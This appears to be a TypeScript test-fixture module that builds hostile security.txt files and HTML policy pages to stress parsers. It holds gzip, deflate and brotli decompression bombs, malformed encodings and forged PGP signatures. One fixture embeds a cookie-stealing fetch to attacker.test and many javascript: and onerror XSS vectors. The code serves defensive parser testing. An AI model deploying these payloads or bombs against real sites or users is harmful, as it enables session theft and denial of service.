// Hostile documents (bodies only): security.txt files and policies built to break parsers. Served by
// hostile-routes.ts and fed offline to the parsers by the hostile unit tests.
import type { Transform } from 'node:stream';
import { constants as zlibConstants, createBrotliCompress, createDeflate, createGzip } from 'node:zlib';

const DAY_MS = 86_400_000;
export const MIB = 1024 * 1024;

const encoder = new TextEncoder();
export const utf8 = (text: string): Uint8Array => encoder.encode(text);

/** RFC 9116 date-time, seconds precision. */
export function isoSeconds(date: Date): string {
  return date.toISOString().replace(/\.\d{3}Z$/, 'Z');
}

/** A security.txt body: one field per line, LF endings, final newline. */
export function txtLines(...lines: string[]): string {
  return `${lines.join('\n')}\n`;
}

/** The fields a file needs besides the one under test (a contact and an Expires half a year ahead). */
export function validFields(host: string, now: Date): string[] {
  return [`Contact: mailto:security@${host}`, `Expires: ${isoSeconds(new Date(now.getTime() + 180 * DAY_MS))}`];
}

/** `count` bytes of printable text in lines of 64, the last line unterminated. */
export function filler(count: number): Uint8Array {
  const line = utf8(`${'x'.repeat(63)}\n`);
  const out = new Uint8Array(count);
  for (let i = 0; i < count; i += line.length) out.set(line.subarray(0, Math.min(line.length, count - i)), i);
  return out;
}

/** 100,000 Contact lines (about 3 MB). */
export function manyContactLines(host: string, count = 100_000): string {
  const lines: string[] = [];
  for (let i = 0; i < count; i++) lines.push(`Contact: mailto:c${i}@${host}`);
  return txtLines(...lines);
}

/** Streams `mib` MiB of zeros through a compressor, 1 MiB at a time (never holds the input). */
async function compressZeros(stream: Transform, mib: number): Promise<Uint8Array> {
  const chunk = Buffer.alloc(MIB);
  const out: Buffer[] = [];
  stream.on('data', (d: Buffer) => void out.push(d));
  const done = new Promise<void>((resolve, reject) => {
    stream.on('end', resolve);
    stream.on('error', reject);
  });
  for (let i = 0; i < mib; i++) {
    if (!stream.write(chunk)) await new Promise((r) => stream.once('drain', r));
  }
  stream.end();
  await done;
  return new Uint8Array(Buffer.concat(out));
}

/**
 * 1 GiB of zeros as 64 concatenated gzip members of 16 MiB each (about 1 MiB on the wire). Decoders that follow
 * RFC 1952 (undici, browsers) inflate all members.
 */
export async function gzipBomb(): Promise<Uint8Array> {
  const member = await compressZeros(createGzip({ level: 9 }), 16);
  const out = new Uint8Array(member.length * 64);
  for (let i = 0; i < 64; i++) out.set(member, i * member.length);
  return out;
}

/** 64 MiB of zeros, zlib-deflated (about 64 KiB). */
export function deflateBomb(): Promise<Uint8Array> {
  return compressZeros(createDeflate({ level: 9 }), 64);
}

/** 256 MiB of zeros, brotli (about 48 KiB at quality 1, which is quick to make). */
export function brotliBomb(): Promise<Uint8Array> {
  return compressZeros(createBrotliCompress({ params: { [zlibConstants.BROTLI_PARAM_QUALITY]: 1 } }), 256);
}

/** Bytes of a security.txt with invalid UTF-8 sequences inside values and comments. */
export function invalidUtf8Txt(host: string, now: Date): Uint8Array {
  const parts = [
    utf8('# caf'), new Uint8Array([0xe9]), utf8(' \n'),
    utf8(`Contact: mailto:sec`), new Uint8Array([0xff, 0xfe, 0xc3, 0x28]), utf8(`@${host}\n`),
    utf8(`${validFields(host, now)[1]}\n`),
    utf8('Policy: https://'), new Uint8Array([0xed, 0xa0, 0x80]), utf8(`${host}/policy\n`),
  ];
  return concat(parts);
}

/** UTF-16LE with a byte order mark (what Notepad used to save). */
export function utf16Txt(host: string, now: Date): Uint8Array {
  const text = `\ufeff${txtLines(...validFields(host, now))}`;
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    out[i * 2] = code & 0xff;
    out[i * 2 + 1] = code >> 8;
  }
  return out;
}

export function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let offset = 0;
  for (const p of parts) {
    out.set(p, offset);
    offset += p.length;
  }
  return out;
}

/**
 * The reporting address in the hostile policies. On a real TLD on purpose: the policy extractor ignores addresses
 * under reserved test TLDs such as `.test`, and these documents must show that hostile markup does not hide it.
 */
export const POLICY_CONTACT = 'security@example.com';

/** A policy page full of active content: scripts, handlers, javascript: links, iframes, forms, styles. */
export function scriptedPolicyHtml(host: string): string {
  return `<!doctype html><html><head><title>Security policy</title>
<script>fetch('https://attacker.test/steal?c=' + document.cookie)</script>
<style>body{background:url(javascript:alert(1))}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(2)">
</head><body onload="alert(3)">
<h1>Vulnerability disclosure</h1>
<p>Report issues to <a href="mailto:${POLICY_CONTACT}">${POLICY_CONTACT}</a>.</p>
<p>Or use <a href="javascript:alert(4)">our secure form</a> <a href="data:text/html,&lt;script&gt;alert(5)&lt;/script&gt;">here</a>.</p>
<img src="x" onerror="alert(6)"><svg onload="alert(7)"><script>alert(8)</script></svg>
<iframe src="javascript:alert(9)"></iframe>
<form action="javascript:alert(10)"><input name="q"></form>
<h2>Out of scope</h2>
<ul><li>Denial of service<script>alert(11)</script></li><li><b onmouseover="alert(12)">Social engineering</b></li></ul>
<h2>In scope</h2><ul><li>*.${host}</li></ul>
<script src="https://attacker.test/x.js"></script>
</body></html>`;
}

/** A policy with 10,000 list items in one list. */
export function hugeListPolicyHtml(host: string, items = 10_000): string {
  const lis: string[] = [];
  for (let i = 0; i < items; i++) lis.push(`<li>asset-${i}.${host}</li>`);
  return `<!doctype html><title>Scope</title><h1>Security policy</h1><p>Report vulnerabilities to ${POLICY_CONTACT}.</p>` +
    `<h2>In scope</h2><ul>${lis.join('')}</ul><h2>Out of scope</h2><ul><li>Denial of service</li></ul>`;
}

/** The contact, then 10,000 nested elements never closed, with more text at the bottom. */
export function deepNestingPolicyHtml(depth = 10_000): string {
  return `<!doctype html><title>Policy</title><p>Report vulnerabilities to ${POLICY_CONTACT}.</p>` +
    `${'<div><span>'.repeat(depth)}Do not run denial of service attacks.`;
}

/** A comment that never closes, swallowing the rest of the page. */
export function unclosedCommentPolicyHtml(): string {
  return `<!doctype html><title>Policy</title><h1>Policy</h1><p>Report vulnerabilities to ${POLICY_CONTACT}.</p>` +
    `<!-- ${'-'.repeat(5000)} <p>Report vulnerabilities to hidden@example.com.</p>`;
}

/** Pseudo-random bytes (deterministic), served as HTML. */
export function binaryNoise(count: number, seed = 0x2545f491): Uint8Array {
  const out = new Uint8Array(count);
  let x = seed;
  for (let i = 0; i < count; i++) {
    x ^= x << 13; x ^= x >>> 17; x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

export interface SignedFixtures {
  /** Cleartext-signed by key A; its Encryption field links `/pgp-key.txt`, which serves key B. */
  signedByWrongKey: string;
  /** A correctly signed file whose signature block is cut in half. */
  truncatedSignature: string;
  /** The signed-message header and text, but no signature block at all. */
  missingSignature: string;
  /** Key B (armored public key), the one the file points to. */
  publishedKey: string;
}

/** Makes two throwaway curve25519 keys and the signed variants (about 50 ms). */
export async function makeSignedFixtures(host: string, now: Date): Promise<SignedFixtures> {
  const openpgp = await import('openpgp');
  const [signer, published] = await Promise.all([
    openpgp.generateKey({ userIDs: [{ name: 'not the owner', email: `mallory@${host}` }], format: 'armored' }),
    openpgp.generateKey({ userIDs: [{ name: 'owner', email: `security@${host}` }], format: 'armored' }),
  ]);
  const text = txtLines(...validFields(host, now), `Encryption: https://${host}/pgp-key.txt`);
  const signingKeys = await openpgp.readPrivateKey({ armoredKey: signer.privateKey });
  const signed = await openpgp.sign({ message: await openpgp.createCleartextMessage({ text }), signingKeys });
  const signatureStart = signed.indexOf('-----BEGIN PGP SIGNATURE-----');
  return {
    signedByWrongKey: signed,
    truncatedSignature: `${signed.slice(0, signatureStart + Math.floor((signed.length - signatureStart) / 2))}\n`,
    missingSignature: signed.slice(0, signatureStart),
    publishedKey: published.publicKey,
  };
}
